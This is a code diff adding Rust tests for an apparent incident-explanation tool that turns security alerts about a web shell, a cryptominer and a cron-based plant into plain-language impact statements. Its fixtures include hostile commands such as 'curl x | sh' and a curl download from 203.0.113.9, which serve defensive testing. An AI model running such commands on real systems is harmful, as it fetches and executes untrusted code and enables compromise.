@@ -47,6 +47,48 @@ fn a_web_shell_reads_as_its_story() {
 }
 
 #[test]
+fn what_it_came_to_is_said_from_alerts_alone() {
+    let said = |story: &Incident| story.impact.iter().map(|one| one.text.en.clone()).collect::<Vec<_>>();
+    let mut story = incident(&web_shell());
+    assert_eq!(
+        said(&story),
+        [
+            "srv-1 computed for somebody else: 203.0.113.9:3333",
+            "Commands were run on srv-1 through a server: sh -c 'curl x | sh'"
+        ]
+    );
+    assert_eq!(story.impact[0].evidence, ["c"]);
+    // The node knows which processes ended: the miner has not.
+    let ids = |ids: &[&str]| ids.iter().map(|id| (*id).to_owned()).collect::<BTreeSet<String>>();
+    let all = ids(&["boot-384-1", "boot-385-1", "boot-386-1"]);
+    story.note_ended(&all, &ids(&["boot-384-1", "boot-385-1"]));
+    let last = story.impact.last().unwrap();
+    assert_eq!(
+        (last.text.en.as_str(), last.evidence.as_slice()),
+        ("Not seen to end, so it may still run: m", &["c".to_owned()][..])
+    );
+    let shell = story.graph.nodes.iter().find(|node| node.id == "boot-384-1").unwrap();
+    assert_eq!(shell.ended, Some(true));
+    let mut over = incident(&web_shell());
+    over.note_ended(&all, &all);
+    assert_eq!(over.impact.last().unwrap().key, "impact.over");
+    // Of some nobody was asked: then nothing is over.
+    let mut partly = incident(&web_shell());
+    partly.note_ended(&ids(&["boot-384-1"]), &ids(&["boot-384-1"]));
+    assert_eq!(partly.impact.last().unwrap().key, "impact.server_shell");
+}
+
+#[test]
+fn where_nothing_was_harmed_that_is_said_and_a_plant_is_told_to_come_back() {
+    let shell = below(p(900, "/usr/bin/bash", "bash"), &login(4));
+    let looked = incident(&[told("a", 0, "T1082", "process-exec", shell.clone())]);
+    assert_eq!(looked.impact[0].key, "impact.none");
+    let planted = incident(&[told("a", 0, "T1053.003", "file-write-close", shell).file("/etc/cron.d/x")]);
+    assert_eq!(planted.impact[0].text.en, "It comes back by itself through what was planted on srv-1: /etc/cron.d/x");
+    assert_eq!(planted.impact[0].evidence, ["a"]);
+}
+
+#[test]
 fn who_is_the_account_and_where_its_log_in_came_from() {
     let who = |with_session: bool| {
         let mut id = p(2000, "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.9/x");
@@ -233,6 +275,7 @@ fn no_hole_stays_open() {
         .sentences
         .iter()
         .chain(story.timeline.iter().map(|e| &e.sentence))
+        .chain(&story.impact)
         .chain(story.next_steps.iter().map(|s| &s.sentence));
     let strip = [
         &story.title,
